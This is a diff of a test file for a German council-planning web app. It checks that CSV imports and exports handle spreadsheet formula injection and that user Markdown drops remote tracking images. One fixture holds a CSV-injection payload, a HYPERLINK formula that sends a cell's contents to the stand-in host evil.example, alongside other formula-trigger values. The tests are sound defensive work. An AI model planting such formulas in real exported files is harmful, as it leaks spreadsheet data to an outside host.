@@ -44,7 +44,7 @@ describe("CSV exports", () => {
     const staff = t.as("secretariat");
     const plan = await staff.post("/api/v1/plans", { bodyId: t.body.id, title: "Integrationsplan", adoptedOn: "2019-04-11" });
     const formula = '=HYPERLINK("https://evil.example/?x="&A1;"Klick")';
-    const cells = { title: formula, responsible: "+49 7171 123", description: "@SUMME(1;2)", indicators: "-1+1" };
+    const cells = { title: formula, responsible: "+49 7171 123", description: "@SUMME(1;2)", indicators: "＝1+1" };
     const csv = [
       "code,actionField,actionFieldTitle,title,description,responsible,indicators",
       `1.1,1,Sprache,"${cells.title.replaceAll('"', '""')}",${cells.description},${cells.responsible},${cells.indicators}`,
@@ -70,7 +70,7 @@ describe("CSV exports", () => {
       expect(await json(again)).toEqual({ created: 0, updated: 0, unchanged: 1 });
     }
     const [measure] = await t.db.prisma.measure.findMany({ where: { planId: plan.id } });
-    expect(measure).toMatchObject({ title: formula, responsible: "+49 7171 123", description: "@SUMME(1;2)", indicators: "-1+1" });
+    expect(measure).toMatchObject({ title: formula, responsible: "+49 7171 123", description: "@SUMME(1;2)", indicators: "＝1+1" });
   });
 });
 
@@ -170,6 +170,13 @@ describe("Markdown from users", () => {
     expect(paper.factsAndReasonsHtml).not.toContain('<img src="https://');
     expect(paper.factsAndReasonsHtml).toContain('<a href="https://tracker.example/pixel.gif">Zähler</a>');
     expect(paper.factsAndReasonsHtml).toContain('<img src="/static/plan.png" alt="Plan">');
+    const linked = await t.as("secretariat").post("/api/v1/papers", {
+      bodyId: t.body.id,
+      title: "Bild in einem Link",
+      type: "proposal",
+      factsAndReasons: "[![Plakat](https://tracker.example/p.gif)](https://remsfeld.example/fest)",
+    });
+    expect(linked.factsAndReasonsHtml).toBe('<p><a href="https://remsfeld.example/fest">Plakat</a></p>\n');
   });
 });
 
